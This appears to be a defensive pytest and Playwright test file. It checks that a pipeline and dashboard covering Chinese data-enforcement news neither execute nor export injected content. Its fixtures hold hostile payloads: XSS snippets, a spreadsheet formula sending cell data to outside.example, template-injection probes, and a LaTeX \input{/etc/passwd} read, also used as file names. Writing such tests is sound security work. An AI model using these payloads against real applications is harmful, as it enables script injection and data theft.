"""A newsletter and a monthly table whose every word would do harm, on every page, in every hover and file."""

from __future__ import annotations

import csv
import html
import io
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote, urlsplit

import openpyxl
import pptx
import pytest
from playwright.sync_api import Page, expect

from etl import pipeline, warehouse
from etl.analysis import exports
from pages.shared import words
from tests.conftest import quietly

Settle = Callable[[Page], None]
# Begins like a formula; HTML, Markdown, Streamlit's directives, LaTeX, Plotly's markup and templates.
HARM = (
    '=HYPERLINK("http://outside.example/?"&A1) <img src=x onerror=window.hurt=1><script>window.hurt=2</script>'
    "<svg onload=window.hurt=3> [a](javascript:window.hurt=4) ![b](http://outside.example/b.png) "
    "<a href='javascript:window.hurt=5'>c</a> $\\href{javascript:window.hurt=6}{d}$ :red[e] **f** "
    "%{customdata} http://outside.example/g"
)
STARTS = ("=1+1", "+1", "-1", "@SUM(A1)", "\tTab", "\rReturn", "|pipe", "\\input{/etc/passwd}", "{{7*7}}", "${7*7}")
# What the reader of newsletters makes of it: marks of Markdown are undone, the rest are words.
QUERY = "window.hurt"
PAGES = ["" if name == "overview" else name for name in words.PAGES]


@pytest.fixture(scope="module")
def harmful_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse of such inputs alone; their file names would do harm as well."""
    folder = tmp_path_factory.mktemp("harmful")
    columns = ["item_id", "kind", "date", "title", "authorities", "confidence", "violations", "outcomes"]
    columns += ["text", "entity_named", "sector", "source_url", "source_title", "publisher", "fine_cny", "apps_count"]
    for month in ("2026-06", "2026-07", "2026-08"):
        with (folder / f"{month}.csv").open("w", encoding="utf-8", newline="") as stream:
            table = csv.DictWriter(stream, columns)
            table.writeheader()
            for n, start in enumerate(("", *STARTS)):
                told = f"{start} {HARM}"
                row = dict.fromkeys(columns, told) | {"item_id": f"harm-{month}-{n}", "date": f"{month}-0{n % 9 + 1}"}
                row |= {"kind": "action", "confidence": "high", "authorities": ("MIIT", "Hunan CAC")[n % 2]}
                row |= {"violations": "data-leak", "outcomes": "fine", "fine_cny": str(n + 1), "apps_count": "3"}
                row["source_url"] = (
                    f"http://outside.example/{n}?'onmouseover='window.hurt=7'" if n else "javascript:window.hurt=7"
                )
                table.writerow(row)
    drop = folder / "drop"
    drop.mkdir()
    harm = html.escape(HARM)
    issue = f"<html><body><h1>{harm} Monthly, September 2026</h1><h2>Enforcement Developments</h2>" + "".join(
        f"<h3>{n}. {start} {harm} Hunan CAC fines a bank (12 August 2026)</h3>"
        f"<p>{harm} The Hunan CAC fined a bank RMB 50,000 for a data leak. {start} {harm}</p>"
        for n, start in enumerate(STARTS[:5], 1)
    )
    named = drop / "<img src=x onerror=window.hurt=8> =1+1 [a](javascript:window.hurt=9).md"
    named.write_text(issue, encoding="utf-8")
    (drop / "=1+1 <svg onload=window.hurt=10> $x$ **b**.docx").write_bytes(b"PK\x03\x04" + HARM.encode())
    (folder / "2026-09.csv").write_text(f"item_id,kind,date,title,authorities,confidence\n{HARM!r}\n", encoding="utf-8")
    pipeline.run(folder, [drop], folder / "w.duckdb", quietly)
    tables = warehouse.read(folder / "w.duckdb")
    # Refused are an address that runs and a title of two lines in each month, a row that is none, and the file.
    assert (tables["items"].height, tables["rejects"].height) == (32, 8)
    return folder / "w.duckdb"


@pytest.fixture(scope="module")
def address(start: Callable[[Path], str], harmful_file: Path) -> str:
    return start(harmful_file)


@contextmanager
def unharmed(page: Page, address: str) -> Iterator[None]:
    """Nothing of what is opened meanwhile runs, asks another machine, or fails."""
    told: list[str] = []
    page.on("dialog", lambda dialog: told.append(f"dialog: {dialog.message}"))
    page.on("pageerror", lambda error: told.append(f"error: {error}"))
    # On a page with a path Streamlit asks twice for what it needs; the first answer is "not found".
    page.on("console", lambda line: told.append(line.text) if line.type == "error" and "404" not in line.text else None)
    page.on("request", lambda request: told.append(request.url) if is_elsewhere(request.url, address) else None)
    yield
    assert page.evaluate("window.hurt") is None
    assert page.locator("[data-testid=stException]").count() == 0
    assert (
        page.evaluate(
            "[...document.querySelectorAll('a')].map(a => a.href.baseVal ?? a.href)"
            ".filter(href => !/^(https?:|mailto:|$)/.test(href))"
        )
        == []
    )
    assert page.locator("img[src='x'], svg[onload], [onerror]").count() == 0
    assert told == []


def is_elsewhere(url: str, address: str) -> bool:
    return urlsplit(url).scheme in ("http", "https", "ws") and urlsplit(url).netloc != urlsplit(address).netloc


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("path", PAGES)
def test_nothing_runs_and_nothing_breaks_on_any_page_or_in_any_hover(
    address: str, page: Page, settle: Settle, path: str, lang: str
) -> None:
    with unharmed(page, address):
        for query in (
            f"q={QUERY}&a={quote('q=<script>')}&b={quote('q=**f**')}",
            f"q={quote(HARM)}&region={quote(HARM)}&grain=month&a={quote(f'authority={HARM}')}",
            f"q={quote('<svg onload')}&split=1&metric=fines",
        ):
            page.goto(f"{address}/{path}?lang={lang}&{query}")
            page.get_by_role("heading", level=1).wait_for()
            settle(page)
            for chart in page.locator(".js-plotly-plot").all()[:8]:
                chart.scroll_into_view_if_needed()
                for point in chart.locator(".point").all()[:3]:
                    point.hover(force=True, timeout=5_000, no_wait_after=True)
            assert page.evaluate("document.querySelectorAll('.js-plotly-plot a, .js-plotly-plot image').length") == 0


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_record_of_each_item_shows_its_words_as_they_are(
    address: str, page: Page, settle: Settle, harmful_file: Path, lang: str
) -> None:
    items = warehouse.read(harmful_file)["items"]
    with unharmed(page, address):
        for item_id in items["item_id"].to_list()[::6]:
            page.goto(f"{address}/items?lang={lang}&item={quote(item_id)}")
            expect(page.locator(".st-key-record")).to_contain_text("<script>window.hurt=2</script>")
            settle(page)


KINDS = [(shape, kind) for shape, kinds in exports.KINDS.items() for kind in kinds]


@pytest.mark.parametrize(("shape", "kind"), KINDS)
def test_no_file_holds_a_formula_or_a_link_that_runs(address: str, shape: str, kind: str) -> None:
    side = quote(f"q={QUERY}")
    query = f"q={QUERY}&chart=regions-over-time&a={side}&b={quote('region=Hunan')}"
    with urllib.request.urlopen(f"{address}/export/{shape}.{kind}?{query}", timeout=60) as answer:
        content = answer.read()
    if kind == "csv":
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
        assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell[:2] == "-1"] == []
    elif kind == "xlsx":
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row]
            # Our own formulas count and add; none names another sheet of the reader's words.
            assert [cell.value for cell in cells if cell.data_type == "f" and "hurt" in str(cell.value)] == []
            assert [
                c.hyperlink.target for c in cells if c.hyperlink and not str(c.hyperlink.target).startswith("http")
            ] == []
    elif kind == "pptx":
        for slide in pptx.Presentation(io.BytesIO(content)).slides:
            links = [rel.target_ref for rel in slide.part.rels.values() if rel.is_external]
            assert [link for link in links if not link.startswith("http")] == []
